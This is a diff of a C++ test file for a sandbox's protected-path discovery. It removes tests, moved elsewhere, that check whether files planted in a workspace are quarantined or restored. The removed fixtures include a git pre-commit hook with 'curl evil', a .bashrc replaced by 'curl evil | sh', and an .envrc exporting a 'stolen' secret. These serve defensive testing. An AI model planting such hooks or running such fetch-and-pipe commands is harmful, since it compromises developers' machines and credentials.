@@ -1,5 +1,5 @@
 // Protected paths: what DiscoverProtected finds in a writable root (following
-// .git pointers), and what SweepProtected moves out after a run.
+// .git pointers). The sweep has its own tests (sweep_test.cc).
 #include "policy/protected.h"
 
 #include <sys/stat.h>
@@ -47,12 +47,6 @@ FileIdentity IdentityOf(const std::string& path) {
 
 bool HasAnchor(const ProtectedSet& set, const std::string& path) {
   return std::any_of(set.anchors.begin(), set.anchors.end(), [&](const PinnedPath& a) { return a.path == path; });
-}
-
-std::string LinkText(const std::string& path) {
-  char text[PATH_MAX];
-  ssize_t n = ::readlink(path.c_str(), text, sizeof text);
-  return n < 0 ? std::string() : std::string(text, static_cast<size_t>(n));
 }
 
 TEST(DiscoverProtected, ExistingEntriesAreBoundAndMissingOnesRecorded) {
@@ -151,108 +145,6 @@ TEST(DiscoverProtected, RecordsASymlinkAndItsTarget) {
   ASSERT_EQ(StateOf(set, ws + "/.bashrc"), "symlink");
   EXPECT_EQ(Find(set, ws + "/.bashrc")->link_target, "dotfiles/bashrc");
   EXPECT_EQ(StateOf(set, ws + "/dotfiles/bashrc"), "file") << "the writable target is pinned read-only too";
-}
-
-class SweepTest : public ::testing::Test {
- protected:
-  SweepTest() : ws_(tree_.Dir("ws")), quarantine_(tree_.Join("quarantine")) {}
-  TestTree tree_;
-  std::string ws_;
-  std::string quarantine_;
-};
-
-TEST_F(SweepTest, NothingChangedNothingMoved) {
-  tree_.Dir("ws/.git/hooks");
-  tree_.File("ws/.git/config");
-  tree_.File("ws/.bashrc", "x");
-  tree_.File("ws/dotfiles/zshrc");
-  tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
-  ProtectedSet set = DiscoverProtected({ws_});
-  EXPECT_TRUE(SweepProtected(set, quarantine_).empty());
-  EXPECT_FALSE(TestTree::Exists(quarantine_));
-  EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
-}
-
-TEST_F(SweepTest, CreatedEnvrcIsQuarantined) {
-  ProtectedSet set = DiscoverProtected({ws_});
-  ASSERT_EQ(StateOf(set, ws_ + "/.envrc"), "missing");
-  tree_.File("ws/.envrc", "export AWS_SECRET=stolen\n");
-
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
-  ASSERT_EQ(findings.size(), 1u);
-  EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
-  EXPECT_EQ(findings[0].what, "created");
-  EXPECT_EQ(findings[0].error, "");
-  EXPECT_EQ(findings[0].moved_to, quarantine_ + ws_ + "/.envrc");
-  EXPECT_FALSE(TestTree::Exists(ws_ + "/.envrc"));
-  EXPECT_EQ(TestTree::Read(findings[0].moved_to), "export AWS_SECRET=stolen\n");
-}
-
-TEST_F(SweepTest, CreatedHooksDirectoryIsQuarantinedWhole) {
-  tree_.Dir("ws/.git");
-  tree_.File("ws/.git/config");
-  ProtectedSet set = DiscoverProtected({ws_});
-  ASSERT_EQ(StateOf(set, ws_ + "/.git/hooks"), "missing");
-  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");
-
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
-  ASSERT_EQ(findings.size(), 1u);
-  EXPECT_EQ(findings[0].path, ws_ + "/.git/hooks");
-  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
-  EXPECT_TRUE(TestTree::Exists(ws_ + "/.git/config"));
-  EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
-}
-
-TEST_F(SweepTest, CreatedGitSymlinkIsMovedWithoutTouchingItsTarget) {
-  ProtectedSet set = DiscoverProtected({ws_});
-  std::string elsewhere = tree_.Dir("elsewhere");
-  tree_.File("elsewhere/hooks/pre-commit", "keep me\n");
-  tree_.Symlink("ws/.git", elsewhere);
-
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
-  ASSERT_EQ(findings.size(), 1u);
-  EXPECT_EQ(findings[0].path, ws_ + "/.git");
-  EXPECT_EQ(findings[0].error, "");
-  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git"));
-  EXPECT_EQ(LinkText(findings[0].moved_to), elsewhere) << "the symlink itself was moved";
-  EXPECT_EQ(TestTree::Read(elsewhere + "/hooks/pre-commit"), "keep me\n");
-}
-
-TEST_F(SweepTest, ReplacedSymlinkIsRestored) {
-  tree_.File("ws/dotfiles/bashrc", "alias ls=ls\n");
-  tree_.Symlink("ws/.bashrc", "dotfiles/bashrc");
-  ProtectedSet set = DiscoverProtected({ws_});
-  ASSERT_EQ(StateOf(set, ws_ + "/.bashrc"), "symlink");
-  ASSERT_EQ(::unlink((ws_ + "/.bashrc").c_str()), 0);
-  tree_.File("ws/.bashrc", "curl evil | sh\n");
-
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
-  ASSERT_EQ(findings.size(), 1u);
-  EXPECT_EQ(findings[0].what, "replaced");
-  EXPECT_EQ(findings[0].error, "");
-  EXPECT_EQ(LinkText(ws_ + "/.bashrc"), "dotfiles/bashrc");
-  EXPECT_EQ(TestTree::Read(findings[0].moved_to), "curl evil | sh\n");
-  EXPECT_EQ(TestTree::Read(ws_ + "/dotfiles/bashrc"), "alias ls=ls\n");
-}
-
-TEST_F(SweepTest, RetargetedAndRemovedSymlinksAreRestored) {
-  tree_.File("ws/dotfiles/zshrc");
-  tree_.File("ws/dotfiles/profile");
-  tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
-  tree_.Symlink("ws/.profile", "dotfiles/profile");
-  ProtectedSet set = DiscoverProtected({ws_});
-  ASSERT_EQ(::unlink((ws_ + "/.zshrc").c_str()), 0);
-  tree_.Symlink("ws/.zshrc", "/etc/evil");
-  ASSERT_EQ(::unlink((ws_ + "/.profile").c_str()), 0);
-
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
-  ASSERT_EQ(findings.size(), 2u);
-  EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
-  EXPECT_EQ(LinkText(ws_ + "/.profile"), "dotfiles/profile");
-  for (const SweepFinding& finding : findings) {
-    EXPECT_EQ(finding.error, "") << finding.path;
-    EXPECT_EQ(finding.what, finding.path == ws_ + "/.profile" ? "removed" : "replaced") << finding.path;
-  }
 }
 
 }  // namespace
